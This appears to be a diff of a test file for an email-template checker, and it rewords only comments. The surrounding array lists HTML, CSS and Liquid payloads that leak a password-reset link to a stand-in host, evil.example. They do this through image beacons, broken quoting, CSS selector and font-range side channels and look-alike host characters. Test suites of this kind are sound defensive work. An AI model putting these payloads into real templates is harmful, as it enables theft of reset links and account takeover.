@@ -34,7 +34,7 @@ const create = (content: string, more: object = {}) =>
 
 const URL = '{{ reset.url }}'
 const LINK = `<p><a href="${URL}">Choose</a></p>`
-/** Everything that would tell somebody else what the link is, or part of it. */
+/** HTML that would tell somebody else the link, or part of it. */
 const ELSEWHERE = [
   `<img src="https://evil.example/?l=${URL}">`,
   `<img src="${URL}">`,
@@ -70,32 +70,33 @@ const ELSEWHERE = [
   `<p>https://evil.example/?l=<b>${URL}</b></p>`,
   `<p>{{ client.name }}${URL}</p>`,
   `<p>https://evil.example/?l=<a href="${URL}"></a></p>`,
-  // A condition leaves out a quote or a tag, and the rest is read as something else.
+  // A condition leaves out a quote or a tag, so that the rest is read as something else.
   `<img alt="{% if client.name %}" src='https://evil.example/?{% else %}'{% endif %}x"> <a href="${URL}">Choose</a><p>'</p>`,
   `{% if client.name %}<img src='https://evil.example/?{% endif %} <a href="${URL}">Choose</a> {% if client.name %}'>{% endif %}`,
   `{% if client.name %}<!--{% endif %} ${LINK} -->`,
   `<{% if client.name %}img src='https://evil.example/?{% endif %} <a href="${URL}">Choose</a> '>`,
-  // HTML of others in an attribute can end it.
+  // HTML from elsewhere in an attribute can end it.
   `<img title="{{ confirmation.clauses }}"> ${LINK}`,
   `<a title="{{ request.documents }}" href="https://x.example">x</a>`,
-  // Letter by letter.
+  // The secret goes letter by letter.
   `{% if reset.url contains "/a" %}<img src="https://evil.example/a">{% endif %}`,
   `{% if reset.url > "https://m" %}<img src="https://evil.example/m">{% endif %}`,
   `<style>@media all { a[href*="/a"] { background: url(https://evil.example/a) } }</style>`,
   `<style>@media all { a[\\68 ref*="/a"] { background: url(https://evil.example/a) } }</style>`,
   `<style>@font-face { font-family: x; src: url(https://evil.example/a); unicode-range: U+61 }</style>`,
-  // What looks like a comment is part of a text.
+  // Comment signs in a string are part of a text.
   `<style>@media screen { .x{content:"/*"} a[href*="/a"]{background:url(https://evil.example/a)} .y{content:"*/"} }</style>`,
   `<style>@media screen { .x{background:url(/*)} a[/*]*/href*="/a"]{background:url(https://evil.example/a)} .y{background:url(*/)} }</style>`,
-  // The plain text of the mail has nothing for these, so that the link would go on with the address before it.
+  // The plain text of the mail has nothing for these elements, so that the link would go on with the address
+  // before it.
   `<p>https://evil.example/<img alt="" src="https://a.example/c.png" width="1">${URL}</p>`,
   `<p>https://evil.example/?<ruby>${URL}</ruby></p>`,
   `<p><a href="https://evil.example/?l="></a>${URL}</p>`,
   `<p>https://evil.example/?l=<span style="display:none"> </span>${URL}</p>`,
-  // It has the address of a link after its words, and nothing between that and the next.
+  // The first link has its address after its words, with nothing between it and the next link.
   `<p><a href="https://evil.example/?l=">Help</a>${URL}</p>`,
   `<p><a href="https://evil.example/?l=">Help</a><a href="${URL}"></a></p>`,
-  // Signs that names of hosts and addresses may be written with.
+  // Characters in which names of hosts and addresses can also be written.
   `<p>evil。example／？${URL}</p>`,
 ]
 
